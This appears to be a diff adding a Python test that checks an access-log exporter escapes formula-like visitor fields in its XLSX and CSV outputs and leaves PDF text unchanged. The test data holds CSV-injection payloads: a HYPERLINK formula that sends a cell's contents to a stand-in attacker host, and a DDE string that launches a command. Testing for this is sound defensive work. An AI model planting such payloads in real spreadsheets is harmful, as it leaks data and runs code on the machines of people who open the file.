@@ -198,6 +198,39 @@ def test_csv_is_utf8_with_bom_and_the_same_columns() -> None:
     assert rows[1][log.titles.index("Masuk (WIB)")] == "2026-11-02 09:15"
 
 
+INJECTIONS = {
+    "name": '=HYPERLINK("http://evil.example/?d="&B2,"klik")',
+    "organisation": "=1+1",
+    "purpose": "+62-cmd|' /C calc'!A0",
+    "equipment": "@SUM(1,2)",
+}
+
+
+def test_formula_like_text_stays_text_in_xlsx_and_csv() -> None:
+    log = access_log(
+        [make_visit(1, **INJECTIONS), make_visit(2, name="\t=1+2", organisation="\r=3")]
+    )
+    titles = log.titles
+    keys = [column.key for column in COLUMNS]
+    columns = {field: keys.index(field) for field in INJECTIONS}
+    sheet = load_workbook(io.BytesIO(render(log, "xlsx")))["Log akses"]
+    first, second = list(sheet.iter_rows(min_row=2, max_row=3))
+    csv_rows = list(csv.reader(io.StringIO(render(log, "csv").decode("utf-8-sig"))))
+    for field, column in columns.items():
+        cell = first[column]
+        assert cell.data_type == "s", (field, cell.value)  # not "f": no live formula
+        assert cell.value == "'" + INJECTIONS[field]
+        assert csv_rows[1][column] == "'" + INJECTIONS[field]
+    for cell in (second[columns["name"]], second[columns["organisation"]]):
+        assert cell.data_type == "s" and cell.value.startswith("'")
+    assert csv_rows[2][columns["name"]] == "'\t=1+2"
+    assert csv_rows[2][columns["organisation"]] == "'\r=3"
+    # An ordinary value is untouched, and the PDF (not a spreadsheet) shows the text as typed.
+    assert csv_rows[1][titles.index("Status")] == first[titles.index("Status")].value
+    assert "=1+1" in pdf_pages(render(log, "pdf"))[0]
+    assert "'=1+1" not in pdf_pages(render(log, "pdf"))[0]
+
+
 def test_pdf_pages_are_numbered_and_end_with_the_signature_block() -> None:
     log = access_log([make_visit(i) for i in range(1, 121)])
     pages = pdf_pages(render(log, "pdf"))
